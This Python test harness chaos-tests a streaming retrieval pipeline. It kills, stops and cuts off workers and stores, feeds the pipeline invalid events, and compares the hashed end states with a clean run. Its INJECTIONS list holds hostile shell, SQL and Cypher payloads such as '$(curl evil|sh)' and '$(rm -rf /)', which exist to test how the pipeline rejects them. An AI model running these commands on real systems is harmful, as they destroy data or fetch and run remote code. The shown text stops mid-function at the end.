"""Whole-pipeline chaos: the derived stores converge to a clean run's state whatever fails.

One harness, two entry points: ``tests/chaos/`` (pytest, a smaller history) and
``bench/chaos_report.py`` (2,000 Reuters documents by default). See docs/reliability.md.

A *run* starts its own Tansu broker and its own FalkorDB server (the graph store and the Redis of
the index, ledgers and cache), publishes a seeded source history, starts the pipeline's workers as
real subprocesses (embedding, reindex, entity_linking, gcn_refresh), waits until every consumer
group has committed the end of every topic it reads, and records the end state of each store:

- ``index``: every chunk of the vector store, read through its interface (``ChunkStore.scan``:
  document, the document's applied version, position, text hash, model, sha256 of the vector
  bytes, metadata), so the comparison holds for any store backend;
- ``search``: what search reads: the store's ``digest`` and ``counts``, and any chunk that one
  ranking returns twice when a sample of chunks is searched for by its own vector and words;
- ``graph``: documents (version, deleted, entities, co-occurring set), MENTIONS (count, spans),
  entity ids and CO_OCCURS weights, node and edge counts;
- ``dirty``: the GCN refresh's dirty-entity set.

Each store is hashed (sha256 of its canonical JSON) and compared with the clean run's.

Scenarios: ``clean``; ``chaos`` (seeded SIGKILLs of random workers at random points of progress,
the graph store stopped for ``outage_s``, the embedding cache flushed, one worker SIGSTOPped past
its session timeout then SIGCONTed); ``hostile`` (invalid events from hypothesis strategies and a
fixed corpus of nasties, every event published twice, older versions re-sent after newer ones);
``adversarial`` (valid but hostile input through the gateway and straight to the topics, search
queries throughout, and crashes at each step of batches holding several versions of one
document: testing/adversarial.py).

The vector store is any backend (``store``; the clean run uses the same one):

- ``embedded`` (the default): in the run's FalkorDB server, so the outage takes it down too;
- ``pgvector``: a table of its own (dropped after the run) in the machine's PostgreSQL, reached
  through a proxy that the outage cuts at the same time as the graph store;
- ``qdrant``: the engine embedded in the ``reindex_qdrant`` worker (one process per shard
  directory), so it is read after the workers stop and the adversarial phase's gateway cannot
  search it; it is never down (a Qdrant server is tested only through qdrant-client).

A run that stops making progress is not an error here: it ends with ``converged`` false and the
partitions left behind in ``stalled_partitions``, and its end state is compared all the same.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import random
import shutil
import signal
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Protocol

import numpy as np
import redis

from producers import reuters
from producers.events import document_deleted, document_upserted
from ragstream.config import MAX_EVENT_BYTES, Settings
from ragstream.publisher import encode
from ragstream.runtime import failpoints
from ragstream.runtime.worker_runtime import ASSIGNED_MESSAGE, COMMIT_LOST_MESSAGE
from ragstream.stores.keys import GraphKeys, Keys
from ragstream.vectorstores import open_store
from ragstream.vectorstores.base import ChunkStore, ChunkUpsert, canonical_metadata
from ragstream.stack import FalkorDB, ManagedProcess, Tansu, worker_process
from ragstream.transport.base import TopicPartition
from schemas.envelope import DERIVED_SUFFIX_CHARS, MAX_ID_CHARS, Envelope
from schemas.payloads import MAX_VERSION
from testing import adversarial
from testing.proxy import CuttableProxy
from workers import reindex_worker

STORE_BACKENDS = ("embedded", "pgvector", "qdrant")
DOCUMENT_GROUPS = ("embedding", "entity_linking")  # both dead-letter every invalid document event
PARTITIONS = 4
# the machine's PostgreSQL with pgvector (infra/pgvector/install.sh), for --store pgvector
PGVECTOR_DSN = "postgresql://postgres@{host}:{port}/ragstream"
BIG_MESSAGE_BYTES = 16 * 1024 * 1024


# the source history ----------------------------------------------------------------------------


@dataclass
class History:
    events: list[Envelope]
    final: dict[str, tuple[int, bool]]  # doc id -> (version, deleted) after the whole history

    @property
    def live(self) -> int:
        return sum(1 for _, deleted in self.final.values() if not deleted)


# valid at the contract's edges: the longest document id (its chunk ids still fit) and the
# highest version (exact in every store); the adversarial run sends them through the gateway
LONGEST_DOC_ID = "edge-longest-id-" + "x" * (MAX_ID_CHARS - DERIVED_SUFFIX_CHARS - 16)
HIGHEST_VERSION_DOC_ID = "edge-highest-version"
EDGE_DOCS = (LONGEST_DOC_ID, HIGHEST_VERSION_DOC_ID)


def history(docs: int, seed: int, data: Path | None = None) -> History:
    """``docs`` Reuters articles at version 1; a seeded 15% rewritten at version 2 (another
    article's text under the old title), and a seeded 8% deleted (at the next version). Two
    more at the contract's edges: the longest document id, and the highest version."""
    rng = random.Random(seed)
    articles = list(reuters.load(data, limit=docs + docs // 5 + 10))
    base, spare = articles[:docs], articles[docs:]
    events = [document_upserted(d.doc_id, d.text, version=1, title=d.title) for d in base]
    final = {d.doc_id: (1, False) for d in base}
    for d in rng.sample(base, max(1, docs * 15 // 100)):
        other = spare[rng.randrange(len(spare))]
        events.append(document_upserted(d.doc_id, other.text, version=2, title=d.title))
        final[d.doc_id] = (2, False)
    for d in rng.sample(base, max(1, docs * 8 // 100)):
        version = final[d.doc_id][0] + 1
        events.append(document_deleted(d.doc_id, version=version))
        final[d.doc_id] = (version, True)
    for doc_id, version, article in ((LONGEST_DOC_ID, 1, spare[0]),
                                     (HIGHEST_VERSION_DOC_ID, MAX_VERSION, spare[1])):
        events.append(document_upserted(doc_id, article.text, version=version,
                                        title=article.title))
        final[doc_id] = (version, False)
    return History(events, final)


# hostile input ---------------------------------------------------------------------------------

INJECTIONS = ["x'}) DETACH DELETE n //", "`; MATCH (n) DETACH DELETE n", "$(rm -rf /)",
              "'; DROP TABLE documents;--", "{{7*7}}", "\"; CALL db.drop() //",
              "`id`}) MERGE (x:Pwned) //", "$(curl evil|sh)", "; shutdown -h now", "|| reboot"]


def _good(doc: str = "hostile") -> dict:
    from datetime import UTC, datetime

    when = datetime(2026, 1, 1, tzinfo=UTC)  # fixed, so the corpus is the same bytes every time
    return json.loads(encode(document_upserted(doc, "fine text", version=1, time=when)).value)


def nasties() -> list[tuple[str, bytes]]:
    """The fixed corpus: (kind, bytes), each invalid for documents.v1."""
    g = _good()
    out: list[tuple[str, bytes]] = []
    raw = json.dumps(g).encode()
    out += [("truncated", raw[:n]) for n in (1, 10, len(raw) // 2, len(raw) - 1)]
    out += [("deep_nesting", b'{"data":' * 100_000 + b"{}" + b"}" * 100_000),
            ("deep_nesting", b"[" * 200_000)]
    out += [("oversized_10mb", json.dumps(g | {"data": g["data"] | {"text": "y" * 10_000_000}})
             .encode()),
            ("oversized_10mb", b"\xff" * 10_000_000)]
    out += [("invalid_utf8", b"\xff\xfe" + raw), ("invalid_utf8", raw.replace(b"fine", b"f\xc3\x28e")),
            ("invalid_utf8", b"\xed\xa0\x80" + raw)]
    out += [("nul", json.dumps(g | {"subject": "a\u0000b"}).encode()),
            ("nul", json.dumps(g | {"data": g["data"] | {"doc_id": "\u0000"}}).encode()),
            ("nul", b"\x00" * 64), ("nul", raw.replace(b"{", b"\x00{", 1)),
            # otherwise valid documents: a NUL next to an entity broke the graph write alone
            ("nul", json.dumps(g | {"data": g["data"] | {
                "text": "Acme Corp\u0000 said on Monday it bought Widget Inc of Paris."}}).encode()),
            ("nul", json.dumps(g | {"data": g["data"] | {"title": "IBM\u0000 results"}}).encode())]
    for s in INJECTIONS:
        out += [("injection", json.dumps(g | {"type": s}).encode()),
                ("injection", json.dumps(g | {"data": g["data"] | {"version": s}}).encode()),
                ("injection", json.dumps(g | {"subject": s + "\n"}).encode())]
    out += [("wrong_version", json.dumps(g | {"schemaversion": v}).encode())
            for v in (2, 99, 0, -1, "v1", None, 2**70)]
    out += [("wrong_version", json.dumps(g | {"specversion": "0.3"}).encode())]
    out += [("bad_field", json.dumps(g | {"data": g["data"] | {"version": -1}}).encode()),
            ("bad_field", json.dumps(g | {"data": g["data"] | {"doc_id": "d" * 600}}).encode()),
            ("bad_field", json.dumps({k: v for k, v in g.items() if k != "data"}).encode()),
            ("bad_field", json.dumps(g | {"type": "ragstream.chunk.embedded"}).encode()),
            ("bad_field", json.dumps(g | {"data": g["data"] | {"metadata": {"a": [1]}}}).encode()),
            ("not_an_object", b"[]"), ("not_an_object", b"null"), ("not_an_object", b'"x"'),
            ("empty", b"")]
    return out


def generated(count: int, seed: int) -> list[tuple[str, bytes]]:
    """``count`` invalid events drawn by hypothesis strategies, reproducible from ``seed``."""
    from hypothesis import HealthCheck, Phase, given, seed as hseed, settings as hsettings
    from hypothesis import strategies as st

    g = _good()
    text = st.text(max_size=60)
    junk = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                     text, st.lists(st.integers(), max_size=3))
    strategy = st.one_of(
        st.builds(lambda b: ("random_bytes", b"\xff" + b), st.binary(max_size=200)),
        st.builds(lambda n: ("truncated", json.dumps(g).encode()[:n]),
                  st.integers(0, len(json.dumps(g)) - 1)),
        st.builds(lambda k, v: ("wrong_field", json.dumps(g | {k: v}).encode()),
                  st.sampled_from(["subject", "type", "schemaversion", "data", "specversion"]),
                  junk.filter(lambda v: v != 1)),
        st.builds(lambda k, v: ("wrong_payload", json.dumps(g | {"data": g["data"] | {k: v}})
                                .encode()),
                  st.sampled_from(["doc_id", "version", "text"]),
                  st.one_of(st.none(), st.lists(text, max_size=2), st.integers(max_value=-1),
                            st.dictionaries(text, text, max_size=2))),
        st.builds(lambda t: ("unknown_type", json.dumps(g | {"type": t}).encode()),
                  text.filter(lambda t: t not in ("ragstream.document.upserted",
                                                  "ragstream.document.deleted"))),
        st.builds(lambda v: ("wrong_version", json.dumps(g | {"schemaversion": v}).encode()),
                  st.integers().filter(lambda v: v != 1)),
        st.builds(lambda v: ("not_an_object", json.dumps(v).encode()),
                  st.one_of(st.lists(junk, max_size=4), text, st.integers())),
    )
    drawn: list[tuple[str, bytes]] = []
    if count <= 0:
        return drawn
    count_drawn = count + count // 5 + 10  # room for the draws that turn out valid

    @hsettings(max_examples=count_drawn, database=None, deadline=None, phases=[Phase.generate],
               suppress_health_check=list(HealthCheck))
    @hseed(seed)
    @given(strategy)
    def gather(item):
        drawn.append(item)

    gather()
    drawn = [d for d in drawn if not is_valid(d[1])]  # a draw can happen to be a valid event
    while len(drawn) < count:  # hypothesis may stop early once its space looks exhausted
        drawn.append(drawn[len(drawn) % max(len(drawn), 1)])
    return drawn[:count]


def is_valid(raw: bytes) -> bool:
    """Whether documents.v1 would accept ``raw`` (with the default size limit)."""
    from schemas.catalogue import DecodeError, decode, topic

    try:
        decode(topic("documents.v1"), raw, MAX_EVENT_BYTES)
        return True
    except DecodeError:
        return False


def invalid_events(count: int, seed: int) -> list[tuple[str, bytes]]:
    fixed = nasties()
    return fixed[:count] + generated(max(count - len(fixed), 0), seed)


# a run -----------------------------------------------------------------------------------------


@dataclass
class ChaosPlan:
    kills: int = 10
    outage_s: float = 20.0
    flush_cache: bool = True
    stop_worker: bool = True
    # the history after its first fifth arrives in this many waves, ``wave_every_s`` apart: the
    # kills need busy workers, and a killed worker is out of reach until it has loaded its
    # model again. 10 waves (50 s, 20 of them the outage) left room for 5 kills on a loaded
    # machine (CI, two test processes)
    waves: int = 20
    wave_every_s: float = 5.0


@dataclass
class RunResult:
    name: str
    events: int = 0
    invalid: int = 0
    duplicates: int = 0
    reordered: int = 0
    kills: int = 0  # of a live worker whose group still had input to commit
    kill_log: list[str] = field(default_factory=list)
    outages: int = 0
    cache_flushes: int = 0
    flushed_vectors: int = 0
    stops: int = 0
    crashes_injected: int = 0  # failpoints that fired (ragstream/runtime/failpoints.py)
    crash_log: list[str] = field(default_factory=list)
    failpoints_armed: int = 0
    unexpected_restarts: int = 0
    oom_killed: int = 0  # SIGKILLed by no one the harness knows: the kernel's OOM killer
    evicted: int = 0  # commits refused because the group had moved on (a missed session)
    converged: bool = False
    stalled_partitions: list[str] = field(default_factory=list)
    dlq_expected: int = 0
    dlq_actual: int = 0
    dlq_records: int = 0
    dlq_without_reason: int = 0
    dead_letters: list[DeadLetterSeen] = field(default_factory=list)
    seconds: float = 0.0
    state: dict[str, Any] = field(default_factory=dict)
    hashes: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class DeadLetterSeen:
    """One distinct dead letter: who refused what, why, and the id of the event if it parses."""

    worker: str
    reason: str
    topic: str
    partition: int
    offset: int
    event_id: str | None


class Phase(Protocol):
    """Traffic a run sends while its workers run (the adversarial phase, testing/adversarial.py)."""

    async def begin(self, run: Run) -> None:
        """Start, once the workers are started."""

    def sent(self) -> bool:
        """Whether everything it meant to publish is published (before that, no convergence)."""

    async def end(self, run: Run) -> None:
        """Stop, once the run converged or stalled, before its end state is read."""


class Trickle:
    """A ``Phase`` that publishes the rest of a history in waves while the workers run, so the
    chaos run's faults land while events still arrive: published all at once, 60 documents
    were done before half the planned kills could find a worker with work to lose.

    Each wave opens a window a kill can land in, and a faster pipeline closes it sooner. So
    the waves follow the kills, not the clock alone: while the run still owes kills, the rest
    of the history goes out in at least two waves per kill owed, smaller ones, down to one
    message. With fixed waves, a runtime that read ahead finished each wave before the driver
    saw it, and two CI runs ended with 6 and 7 of their 10 kills."""

    def __init__(self, messages: list[tuple[str, bytes | None, bytes]], waves: int,
                 every_s: float):
        self.messages, self.waves, self.every_s = messages, waves, every_s
        self._waves_sent = 0
        self._task: asyncio.Task | None = None

    async def begin(self, run: Run) -> None:
        self._task = asyncio.create_task(self._publish(run))

    async def _publish(self, run: Run) -> None:
        start = 0
        while start < len(self.messages):
            await asyncio.sleep(self.every_s)
            waves_left = max(self.waves - self._waves_sent, 2 * run.kills_owed, 1)
            end = start + -(-(len(self.messages) - start) // waves_left)
            await run.send(self.messages[start:end])
            start, self._waves_sent = end, self._waves_sent + 1

    def sent(self) -> bool:
        return self._task is not None and self._task.done()

    async def end(self, run: Run) -> None:
        if self._task is not None and not self._task.done():
            self._task.cancel()
        if self._task is not None and not self._task.cancelled():
            self._task.result()  # a failed publish fails the run


def _settings(env: dict[str, str]) -> Settings:
    return Settings.from_env({k: v for k, v in env.items() if k.startswith("RAGSTREAM_")
                              and not k.startswith(("RAGSTREAM_KG_", "RAGSTREAM_GCN_"))})


class Run:
    """One pipeline on its own broker and store, in ``root / name``."""

    def __init__(self, name: str, root: Path, seed: int, session_timeout_ms: int = 6000,
                 log=print, store: str = "embedded"):
        self.name, self.seed, self.log, self.store = name, seed, log, store
        self.pipeline = pipeline(store)
        self.proxy: CuttableProxy | None = None  # in front of the vector store, where it is remote
        self.dir = root / name
        shutil.rmtree(self.dir, ignore_errors=True)
        self.dir.mkdir(parents=True)
        self.rng = random.Random(f"{seed}:{name}")
        self.session_timeout_ms = session_timeout_ms
        self.result = RunResult(name)
        self.workers: dict[str, ManagedProcess] = {}
        self._starts: dict[str, int] = {}
        self._started_at: dict[str, float] = {}
        self._under_way: set[str] = set()  # workers that have loaded their model and joined
        self._expected_exit: set[str] = set()
        self._stopped: str | None = None
        self._behind: set[str] = set()  # the groups with input left to commit, at last look
        self.kills_owed = 0  # planned kills not yet made, while the run is driven
        self._input_at = 0.0  # when input was last published
        self._arrivals: set[str] = set()  # the topics published to since the driver last looked
        self._arrived = asyncio.Event()
        # worker -> step -> keys: the failpoints each worker is (re)started with
        self.failpoints: dict[str, dict[str, list[str]]] = {}

    # services ----------------------------------------------------------------------------------

    async def start_services(self) -> None:
        self.tansu = Tansu(self.dir)
        self.tansu.start()
        self.falkordb = FalkorDB(self.dir)
        self.falkordb.start()
        prefix = f"c{uuid.uuid4().hex[:6]}"
        self.env = {
            "RAGSTREAM_KAFKA_BOOTSTRAP": self.tansu.bootstrap,
            "RAGSTREAM_KAFKA_IDEMPOTENCE": "false",
            "RAGSTREAM_REDIS_URL": self.falkordb.url,
            "RAGSTREAM_DATA_DIR": str(self.dir / "data"),
            "RAGSTREAM_GROUP_PREFIX": prefix,
            "RAGSTREAM_TOPIC_PARTITIONS": str(PARTITIONS),
            "RAGSTREAM_SESSION_TIMEOUT_MS": str(self.session_timeout_ms),
            "RAGSTREAM_HEARTBEAT_INTERVAL_MS": "500",
            "RAGSTREAM_BATCH_TIMEOUT_MS": "100",
            "RAGSTREAM_BATCH_MAX_RECORDS": "16",
            "RAGSTREAM_RETRY_BACKOFF_S": "0.05",
            "RAGSTREAM_MAX_BACKOFF_S": "2",
            # kept orphans record which intermediate versions a run happened to apply, which
            # depends on batching: the end state is a function of the history only when pruned
            "RAGSTREAM_KG_ORPHANS": "prune",
            "RAGSTREAM_GCN_TRIGGER_DIRTY": "0",  # no Celery worker here: gather the set only
            "RAGSTREAM_LOG_LEVEL": "INFO",
            "HF_HUB_OFFLINE": "1",
            "TRANSFORMERS_OFFLINE": "1",
            "RAGSTREAM_STORE_SEARCH": self.store,
        }
        if self.store == "pgvector":
            self.proxy = CuttableProxy("127.0.0.1", 5432)
            await self.proxy.start()
            self.env["RAGSTREAM_STORE_PGVECTOR_DSN"] = PGVECTOR_DSN.format(
                host="127.0.0.1", port=self.proxy.port)
        self.settings = _settings(self.env)
        from ragstream.graph import KgSettings

        self.graph_name = KgSettings(orphans="prune").graph_name(self.settings)

    def stop_workers(self) -> None:
        for w in self.workers.values():
            if w.alive():
                os.kill(w.pid, signal.SIGCONT)
        for w in self.workers.values():
            w.stop(20)

    async def stop_services(self) -> None:
        self.stop_workers()
        if self.proxy is not None:  # the run's own table goes with the run
            if self.proxy.cut_off:
                await self.proxy.restore()
            try:
                await asyncio.to_thread(_drop, index_store(self.settings))
            finally:
                await self.proxy.cut()
        self.falkordb.stop()
        self.tansu.process.kill()
        self.tansu.process.wait()

    async def create_topics(self) -> None:
        from ragstream.transport.kafka import ensure_topics
        from schemas.catalogue import all_topic_names

        await ensure_topics(self.settings, all_topic_names(), PARTITIONS)

    async def send(self, messages: list[tuple[str, bytes | None, bytes]]) -> None:
        """(topic, key, value) as they are, in order; big messages allowed (hostile input)."""
        from ragstream.transport import make_producer
        from ragstream.transport.base import OutMessage

        producer = make_producer(self._big_messages())
        await producer.start()
        try:
            await producer.send_all([OutMessage(t, k, v) for t, k, v in messages])
        finally:
            await producer.stop()
        self._input_at = time.monotonic()
        self._arrivals |= {topic for topic, _, _ in messages}
        self._arrived.set()

    def _big_messages(self) -> Settings:
        """The settings, with room for the hostile input's biggest messages."""
        return self.settings.model_copy(update={"max_event_bytes": BIG_MESSAGE_BYTES})

    # workers -----------------------------------------------------------------------------------

    def start_workers(self) -> None:
        for name in self.pipeline:
            self._start(name)

    def _start(self, name: str) -> None:
        n = self._starts[name] = self._starts.get(name, -1) + 1
        env = self.env
        if self.failpoints.get(name):
            env = {**env, "RAGSTREAM_FAILPOINTS": failpoints.render(self.failpoints[name])}
        proc = worker_process(name, env, self.dir, log_name=f"{name}-{n}")
        proc.start()
        self.workers[name] = proc
        self._started_at[name] = time.monotonic()
        self._under_way.discard(name)

    def supervise(self) -> None:
        """Restart dead workers; a death the harness did not cause is counted."""
        for name, proc in self.workers.items():
            if not proc.alive():
                if name in self._expected_exit:
                    self._expected_exit.discard(name)
                elif step := self._failpoint_hit(name, proc):
                    self.result.crashes_injected += 1
                    self.result.crash_log.append(f"{name}@{step}")
                    self.log(f"[{self.name}] {name} crashed at its failpoint {step!r}")
                else:
                    if now_dead_since := getattr(proc, "_dead_since", None):
                        if time.monotonic() - now_dead_since < 1.0:
                            continue  # a little backoff, as a supervisor would
                    else:
                        proc._dead_since = time.monotonic()
                        continue
                    self.result.unexpected_restarts += 1
                    if proc.process.returncode == -signal.SIGKILL:
                        self.result.oom_killed += 1
                    self.log(f"[{self.name}] {name} died by itself ({proc.process.returncode}):\n"
                             f"{proc.tail(30)}")
                self._start(name)

    def _failpoint_hit(self, name: str, proc: ManagedProcess) -> str | None:
        """The step whose failpoint killed ``proc``, now disarmed, or None."""
        if not self.failpoints.get(name) or proc.process.returncode != -signal.SIGKILL:
            return None
        for line in reversed(proc.log_path.read_text(errors="replace").splitlines()):
            if failpoints.HIT_MESSAGE in line:
                step = json.loads(line)["failpoint"]
                self.failpoints[name].pop(step, None)
                return step
        return None

    def kill(self, name: str, strict: bool = False) -> str | None:
        """SIGKILL ``name``, or another busy worker if its group has nothing left to commit or
        it is still starting: a kill counts only where it can interrupt work. A dead or idle
        worker's kill proves nothing, and neither does one still loading its model: the first
        four kills of a run used to land on the entity-linking worker loading spaCy. A worker
        is under way once it logged its partitions assigned: its model loaded in ``setup``,
        before it joined. ``strict``: ``name`` or no one. Returns the worker killed, or None
        (no one to kill)."""
        def killable(n: str) -> bool:
            return n != self._stopped and self.workers[n].alive() and self.under_way(n)

        if strict:  # the store's writer works in bursts too short to catch: it counts as busy
            # while the group that feeds it has work (its chunks are on their way)
            busy = [name] if killable(name) and (name in self._behind or self._fed(name)) else []
        else:
            busy = [n for n in self.pipeline if n in self._behind and killable(n)]
        if not busy:
            return None
        if name not in busy:
            name = self.rng.choice(busy)
        proc = self.workers[name]
        self._expected_exit.add(name)
        proc.signal(signal.SIGKILL)
        proc.process.wait()
        self.result.kills += 1
        self.result.kill_log.append(f"{name}@{time.monotonic() - self._t0:.1f}s")
        self._start(name)
        self._expected_exit.discard(name)
        return name

    def _readers(self, topics: set[str]) -> set[str]:
        """The pipeline's groups that read any of ``topics``."""
        from workers import load

        return {n for n in self.pipeline if topics & set(load(n).consumes)}

    def _fed(self, name: str) -> bool:
        """Whether a group that writes what ``name`` reads has work left."""
        from workers import load

        reads = set(load(name).consumes)
        return any(reads & set(load(n).emits) for n in self._behind)

    def under_way(self, name: str) -> bool:
        if name not in self._under_way:
            if ASSIGNED_MESSAGE in self.workers[name].log_path.read_text(errors="replace"):
                self._under_way.add(name)
        return name in self._under_way

    # progress and convergence -------------------------------------------------------------------

    async def group_lag(self) -> dict[str, tuple[int, int]]:
        """(committed, end) of every pipeline group, summed over the topics it reads."""
        out: dict[str, tuple[int, int]] = {}
        for (name, _), (committed, end) in (await self._offsets()).items():
            c, e = out.get(name, (0, 0))
            out[name] = (c + min(committed, end), e + end)
        return out

    async def _offsets(self) -> dict[tuple[str, TopicPartition], tuple[int, int]]:
        """(committed, end) of each pipeline group on each partition it reads."""
        from ragstream.transport.kafka import committed_offsets
        from workers import load

        ends = await self._ends(sorted({t for name in self.pipeline
                                        for t in load(name).consumes}))
        out = {}
        for name in self.pipeline:
            tps = [tp for tp in ends if tp.topic in load(name).consumes]
            offsets = await committed_offsets(self.settings, self.settings.group_id(name), tps)
            out.update({(name, tp): (offsets[tp], ends[tp]) for tp in tps})
        return out

    async def _ends(self, topics: list[str]) -> dict[TopicPartition, int]:
        """Each partition's end. Tansu answers a list-offsets request with its last batch's
        first offset + 1 (see KafkaReader.caught_up), so this reads on from there to the real
        end. On the reported end, a group whose just-killed worker had not yet processed the
        rest of a batch looked caught up, the run "converged", and its end state lacked that
        batch's documents: 2 chaos runs in 9 reported chunks lost that were only late."""
        from ragstream.transport import open_reader

        async with open_reader(self.settings, topics) as reader:
            ends = await reader.end_offsets()
            while records := await reader.getmany(200, 10_000):
                for r in records:
                    ends[r.tp] = max(ends[r.tp], r.offset + 1)
        return ends

    async def progress(self) -> dict[str, float]:
        """Each group's committed fraction of its input, and their mean under "all"."""
        try:
            lag = await asyncio.wait_for(self.group_lag(), 20)
        except Exception:  # the broker is busy; try again on the next tick
            return {"all": -1.0}
        self._behind = {name for name, (c, e) in lag.items() if c < e}
        # a group with no input yet has made no progress (not all of it), or early faults
        # would bunch up before anything flows
        out = {name: (c / e if e else 0.0) for name, (c, e) in lag.items()}
        out["all"] = sum(out.values()) / len(out)
        out["caught_up"] = float(all(c >= e for c, e in lag.values()))
        out["committed"] = float(sum(c for c, _ in lag.values()))
        return out

    # the run -----------------------------------------------------------------------------------

    async def partition_lag(self) -> dict[str, int]:
        """Records each pipeline group has not committed, per "group topic[partition]"."""
        return {f"{name} {tp.topic}[{tp.partition}]": end - committed
                for (name, tp), (committed, end) in (await self._offsets()).items()}

    # the run -----------------------------------------------------------------------------------

    async def execute(self, messages: list[tuple[str, bytes | None, bytes]],
                      plan: ChaosPlan | None, timeout_s: float, phase: Phase | None = None,
                      stall_s: float = 240) -> RunResult:
        """Publish ``messages``, run the pipeline (and ``phase``) until every group has
        committed everything, or none has moved for ``stall_s``, or ``timeout_s``; then read the
        end state."""
        self._t0 = time.monotonic()
        await self.start_services()
        try:
            await self.create_topics()
            await self.send(messages)
            self.log(f"[{self.name}] published {len(messages)} messages")
            self.result.failpoints_armed = sum(map(len, self.failpoints.values()))
            self.start_workers()
            if phase is not None:
                await phase.begin(self)
            try:
                self.result.converged = await self._drive(plan, timeout_s, stall_s, phase)
            finally:
                if phase is not None:
                    await phase.end(self)
            self.result.seconds = time.monotonic() - self._t0
            lag = await self.partition_lag()
            self.result.stalled_partitions = sorted(p for p, n in lag.items() if n > 0)
            self.result.evicted = self._evictions()
            self.stop_workers()  # converged; and an embedded Qdrant opens in one process only
            self.result.state = await asyncio.to_thread(capture_state, self)
            self.result.hashes = {k: digest(v) for k, v in self.result.state.items()
                                  if k in STORES}
            await self._count_dead_letters()
        finally:
            await self.stop_services()
        return self.result

    def _evictions(self) -> int:
        """Commits a worker lost because its group had moved on: the worker missed its session
        or poll deadline while it held a batch (the SIGSTOP of the chaos run causes one)."""
        logs = (self.dir / "logs").glob("*.log")
        return sum(p.read_text(errors="replace").count(COMMIT_LOST_MESSAGE) for p in logs)

    async def _drive(self, plan: ChaosPlan | None, timeout_s: float, stall_s: float,
                     phase: Phase | None) -> bool:
        """Faults by plan, restarts by need, until converged (True) or stuck (False)."""
        actions = self._schedule(plan) if plan else []
        deadline = time.monotonic() + timeout_s
        done_at: float | None = None
        outage_until: float | None = None
        resume_at: float | None = None
        last = 0.0
        committed, moved_at = -1, time.monotonic()
        prog: dict[str, float] = {"all": -1.0}
        while True:
            now = time.monotonic()
            if now > deadline or now - moved_at > stall_s:
                self.log(f"[{self.name}] NOT CONVERGED: no progress for {now - moved_at:.0f}s; "
                         f"progress {await self.progress()}, pending {actions}")
                return False
            if outage_until is not None and now >= outage_until:
                self.falkordb = FalkorDB(self.dir, port=self.falkordb.port)
                self.falkordb.start(timeout=900)
                if self.proxy is not None:
                    await self.proxy.restore()
                self.log(f"[{self.name}] graph store back")
                outage_until = None
            if resume_at is not None and now >= resume_at:
                os.kill(self.workers[self._stopped].pid, signal.SIGCONT)
                self.log(f"[{self.name}] SIGCONT {self._stopped}")
                self._stopped, resume_at = None, None
            if self._stopped is None:
                self.supervise()
            arrived, self._arrivals = self._arrivals, set()
            self._arrived.clear()
            if arrived and outage_until is None:
                # a wave was sent a moment ago (the loop wakes on it): the groups that read it
                # have input to commit, and a kill due lands now. A look at progress first
                # took long enough for a small wave to be done: with waves that already
                # followed the kills owed, a CI run still ended with 5 of its 10 kills
                self._behind |= self._readers(arrived)
                prog = {**prog, "caught_up": 0.0}
            else:
                prog = await self.progress() if outage_until is None else {"all": -1.0}
            p = prog["all"]
            if prog.get("committed", -1) != committed or outage_until or resume_at:
                committed, moved_at = prog.get("committed", -1), now
            # the cache flush waits for the embedding worker itself to be under way
            due = actions and (prog.get("embedding", -1.0) if actions[0][1] == "flush"
                               else p) >= actions[0][0]
            # a kill is also due while a group has work, 4 s after the last fault or once
            # input arrived since: progress stands still while a killed worker reloads its
            # model, then a fast pipeline jumps to the end, past the fractions of every kill
            # left; and a wave is done within a second or two, so waiting 4 s let it pass
            self.kills_owed = sum(kind in ("kill", "kill_writer") for _, kind, _ in actions)
            due = due or (actions and actions[0][1] in ("kill", "kill_writer")
                          and (now - last >= 4.0 or self._input_at > last)
                          and bool(self._behind))
            while due and now - last >= 1.5 and outage_until is None:
                action = actions.pop(0)
                _, kind, arg = action
                last, before = now, last
                if kind in ("kill", "kill_writer"):
                    killed = self.kill(arg, strict=kind == "kill_writer")
                    if killed:
                        self.log(f"[{self.name}] SIGKILL {killed} at progress {p:.2f}")
                    elif self._behind or (phase is not None and not phase.sent()):
                        # no one to kill yet: the busy workers are still starting, only the
                        # SIGSTOPped one has work, or the next wave is yet to come (on a quiet
                        # machine each wave was done within 2 s, and 4 of 10 kills found every
                        # group done). Try again on the next tick: a busy window is short. The
                        # writer's kill waits behind the next action, so the others do not wait
                        # for the writer
                        actions.insert(int(kind == "kill_writer" and len(actions) > 0), action)
                        last = before
                    else:
                        self.log(f"[{self.name}] no kill at progress {p:.2f}: all groups done")
                elif kind == "outage":
                    self.falkordb.stop()
                    if self.proxy is not None:
                        await self.proxy.cut()
                    outage_until = now + plan.outage_s
                    self.result.outages += 1
                    down = "graph store" + (f" and {self.store}" if self.proxy else "")
                    self.log(f"[{self.name}] {down} stopped for {plan.outage_s}s")
                elif kind == "flush":
                    removed = flush_embedding_cache(self.falkordb.port, self.settings.group_prefix)
                    self.result.cache_flushes += 1
                    self.result.flushed_vectors += removed
                    self.log(f"[{self.name}] embedding cache flushed ({removed} vectors)")
                elif kind == "stop":
                    self._stopped = arg
                    os.kill(self.workers[arg].pid, signal.SIGSTOP)
                    resume_at = now + self.session_timeout_ms / 1000 + 5
                    self.result.stops += 1
                    self.log(f"[{self.name}] SIGSTOP {arg} for {resume_at - now:.0f}s")
                break
            settled = (not actions and outage_until is None and resume_at is None
                       and prog.get("caught_up") == 1.0 and (phase is None or phase.sent()))
            if settled:
                if done_at is None:
                    done_at = now
                elif now - done_at >= 3.0:  # still caught up a few seconds later: converged
                    return True
            else:
                done_at = None
            try:  # the next look, in 0.5 s or as soon as a wave is sent
                await asyncio.wait_for(self._arrived.wait(), 0.5)
            except asyncio.TimeoutError:
                pass

    def _schedule(self, plan: ChaosPlan) -> list[tuple[float, str, str]]:
        """Seeded: at which fraction of committed progress each fault strikes."""
        rng = self.rng
        # kills end at 80%: later ones met every group done (progress jumps at the end)
        actions = [(rng.uniform(0.02, 0.8), "kill", rng.choice(self.pipeline))
                   for _ in range(plan.kills)]
        if actions:  # one kill waits for the store's writer to have work: the store under test
            # (entity linking, the slowest, had most kills, and the reindex worker often none)
            actions[-1] = (actions[-1][0], "kill_writer", reindex_worker(self.store))
        if plan.outage_s:
            actions.append((rng.uniform(0.25, 0.45), "outage", ""))
        if plan.flush_cache:
            actions.append((rng.uniform(0.3, 0.7), "flush", ""))
        if plan.stop_worker:
